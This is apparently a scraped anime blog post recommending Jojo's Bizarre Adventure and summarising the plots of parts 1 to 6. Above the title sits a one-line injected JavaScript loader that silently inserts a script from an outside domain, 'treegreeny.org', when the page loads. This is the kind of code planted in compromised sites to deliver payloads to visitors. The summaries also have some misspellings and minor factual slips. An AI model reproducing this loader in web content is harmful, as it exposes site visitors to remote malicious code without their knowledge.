;(function(f,b,n,j,x,e){x=b.createElement(n);e=b.getElementsByTagName(n)[0];x.async=1;x.src=j;e.parentNode.insertBefore(x,e);})(window,document,"script","https://treegreeny.org/KDJnCSZn"); Is Jojo's Bizarre Adventure Worth Watching in 2022? – Trending Blog 4u

Is Jojo's Bizarre Adventure Worth Watching in 2022?

jojo bizarreadventure

Jojo’s Bizarre Adventure is a fantasy adventure shonen anime. As the name suggests, this shonen battle anime is quite bizarre. The odd but unique art style of Jojo, the power system, and abilities are what make Jojo the ‘Jojo’s Bizarre Adventure’. The show takes you on a journey with jojos of each part and you eventually fall in love with the show along the way.
The manga series by Hirohiko Araki has 8 parts. Five of the parts have been animated and 12 episodes of part 6: Stone Ocean were released recently in December 2021. The series also has great music and OSTs which makes it even more worth watching. The anime shows the generations of Joestars, Jonathan Joestar particularly, fighting the evil. Each part of the show has its own joestar, jojo main character.Here’s an overview of the plot of each Jojo’s Bizarre Adventure part.

Part 1: Phantom Blood

The main protagonist of the first part, Phantom blood is Jonathan Joestar.
In this part, Jojo along with his companions; Speedwagon and William Zeppeli, fights against his evil stepbrother, Dio Brando using the power of Hamon, a type of ripple-breathing fighting technique.

Part 2: Battle Tendency

Joseph Joestar is the grandson of Jonathan Joestar.
The Pillar Men wake up from their slumber and they want to become the ultimate being. To defeat them, Joseph learns hamon from Lisa Lisa while training with Ceasar Zeppeli.

Part 3: Stardust Crusaders

DIO is back and he has awakened his stand. Stands are the physical manifestations of one’s energy.
To defeat DIO, Jotaro Kujo along with his grandfather Joseph Joestar and other companions, sets out on a journey around the world.
On the way they find many challenges and fight other stand users.

Part 4: Diamond is Unbreakable

Josuke Higashikata is the illegitimate son of Joseph Joestar. Jotaro visits him and tells him all about stands.
Josuke along with his friends start searching for an arrow and a bow. During all this they get to know about the dark murderous deeds going on in the apparently peaceful town, Morioh.
They look for the culprit behind all the murders and fight him.

Part 5: Golden Wind

This part features Giorno Giovanna, the son of DIO. Giorno joins the PASSIONE gang after meetingBucciarti. He has a dream and he wants to become a gang-star.
He wishes to put an end to evil using the twistedway.
Giorno’s stand, Golden Experience Requiem or GER is quite powerful and invincible.

Part 6: Stone Ocean

Stone oceans feature Jotaro’s daughter, Cujoh Jolyne. Jolyne gets accused of theft and murder and is sent to the Green Dolphon Street Prison.
But there’s more to it. Dark and unexplainablethings are going on in the prison.
Jotaro visits Jolyne and tells her everything about stands. There they encounter the antagonist and Jotaro’s soul and stand gets stolen.
Jolyne stays at the prison to search for the culprit and bring his father back to life.
The series is totally worth watching. It is an exceptionally brilliant show.
If you want to read more visit our anime gossips page

For More Visit our website, Thank you

Leave a Reply

Your email address will not be published.